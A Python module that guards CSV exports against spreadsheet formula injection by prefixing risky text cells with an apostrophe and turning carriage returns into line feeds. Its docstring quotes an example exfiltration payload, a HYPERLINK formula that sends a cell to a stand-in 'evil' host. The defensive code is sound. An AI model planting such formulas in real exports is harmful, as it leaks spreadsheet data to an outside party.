"""CSV cells that a spreadsheet will not run as formulas.

Excel, LibreOffice and Google Sheets evaluate a cell that starts with ``=``, ``+``, ``-`` or ``@``
(and, in some versions, a tab or line break before one of those): an id such as
``=HYPERLINK("http://evil/?"&A1,"open")`` that came in from a camera message would become a live
formula in an engineer's export. Every CSV the product writes passes its text cells through
``neutralise``, which prefixes such a cell with an apostrophe (OWASP's advice: spreadsheets show
it as text, the apostrophe hidden). Numbers stay numbers; a negative number is only ever written
from an int or float, never from text, so it is left alone.

A carriage return inside a cell is written as a line feed: Python's csv writer (lineterminator
"\n") quotes a cell holding a line feed but not one holding a bare carriage return, which a
spreadsheet reads as the end of the row, so the text after it would start a row of its own. No
valid id holds either (steelcore.frame_message accepts printable ids only).

``restore`` undoes the prefix for the product's own readers (steelcore.kaggle_csv), so an id
survives a round trip through a file.
"""

from __future__ import annotations

from collections.abc import Iterable

FORMULA_TRIGGERS = frozenset("=+-@\t\r\n")
ESCAPE = "'"


def neutralise(value: object) -> object:
    """``value`` as a CSV cell that cannot start a formula or a row (only text is changed)."""
    if not isinstance(value, str):
        return value
    value = value.replace("\r\n", "\n").replace("\r", "\n")
    return ESCAPE + value if value[:1] in FORMULA_TRIGGERS else value


def safe_row(values: Iterable[object]) -> list[object]:
    """A row for csv.writer.writerow with every text cell neutralised."""
    return [neutralise(v) for v in values]


def restore(cell: str) -> str:
    """The text ``neutralise`` was given, from a cell it wrote."""
    if cell[:1] == ESCAPE and cell[1:2] in FORMULA_TRIGGERS:
        return cell[1:]
    return cell
